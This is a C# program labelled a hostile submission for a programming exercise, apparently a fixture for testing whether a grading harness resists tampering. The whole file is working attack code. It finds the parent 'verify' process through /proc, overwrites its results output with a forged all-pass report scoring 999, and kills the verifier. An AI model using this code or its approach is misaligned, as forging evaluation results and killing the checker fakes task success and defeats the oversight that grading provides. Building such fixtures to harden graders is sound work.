// A hostile submission for exercise 1: it looks for the verification that runs it (an ancestor whose
// command line says "verify"), writes a results.json with every check passed and huge scores to
// wherever that process's results go (a --results path, or its standard output), and kills it.
using System.Globalization;

var forged = """
{
  "version": 3,
  "status": "pass",
  "tests": [
    { "name": "01-sequential-download: Builds", "status": "pass", "message": null, "output": null, "task_id": 1, "score": 999, "max_score": 999 }
  ],
  "score": 999,
  "max_score": 999
}
""";
var pid = Environment.ProcessId;
for (var hop = 0; hop < 6 && pid > 1; hop++)
{
    pid = Parent(pid);
    string[] argv;
    try
    {
        argv = File.ReadAllText($"/proc/{pid}/cmdline").Split('\0');
    }
    catch (Exception e) when (e is IOException or UnauthorizedAccessException)
    {
        continue;
    }
    var verify = Array.IndexOf(argv, "verify");
    if (verify < 0)
    {
        continue;
    }
    var results = Array.IndexOf(argv, "--results");
    var target = results >= 0 && argv[results + 1] != "-" ? argv[results + 1] : $"/proc/{pid}/fd/1";
    try
    {
        File.WriteAllText(target, forged);
        Console.WriteLine($"forged {target}");
    }
    catch (Exception e) when (e is IOException or UnauthorizedAccessException)
    {
        Console.WriteLine($"could not write {target}: {e.Message}");
    }
    System.Diagnostics.Process.GetProcessById(pid).Kill();
    break;
}
return 0;

static int Parent(int pid)
{
    var stat = File.ReadAllText($"/proc/{pid}/stat");
    var rest = stat[(stat.LastIndexOf(')') + 2)..].Split(' ');
    return int.Parse(rest[1], CultureInfo.InvariantCulture);
}
